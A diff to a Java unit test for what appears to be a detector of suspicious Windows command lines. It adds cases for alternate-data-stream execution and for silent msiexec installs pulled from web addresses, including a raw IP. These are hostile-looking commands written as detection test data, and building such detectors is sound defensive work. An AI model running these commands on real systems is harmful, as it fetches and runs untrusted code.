@@ -73,9 +73,21 @@ class BehavioursTest {
         assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "mount \\\\srv\\share Z:", true)).isFalse();
         assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "wscript.exe C:\\data\\log.txt:x.vbs", true)).isTrue();
         assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "ping db.example.com:443", true)).isFalse();
+        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "appcmd.exe recycle apppool /apppool.name:DefaultAppPool", true)).isFalse();
+        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "type C:\\data\\a.txt:b.exe > x", true)).isTrue();
         assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "git clone git@host.example.com:org/repo.git", true)).isFalse();
         assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "regsvr32 /s C:\\Users\\Public\\a.ocx", true)).isTrue();
         assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "notepad C:\\Users\\Public\\a.txt", true)).isFalse();
+    }
+
+    @Test
+    void msiexecFromAWebAddressCountsWhenUnattendedOrNotAPackage() {
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /q /i https://files.example.net/agent.msi", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec.exe /i https://files.example.net/agent.msi /quiet", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i https://files.example.net/logo.jpg", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i http://198.51.100.7/setup.msi", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i https://downloads.example.com/viewer-2.1.msi", true)).isFalse();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /update https://downloads.example.com/fix.msp /norestart", true)).isFalse();
     }
 
     @Test
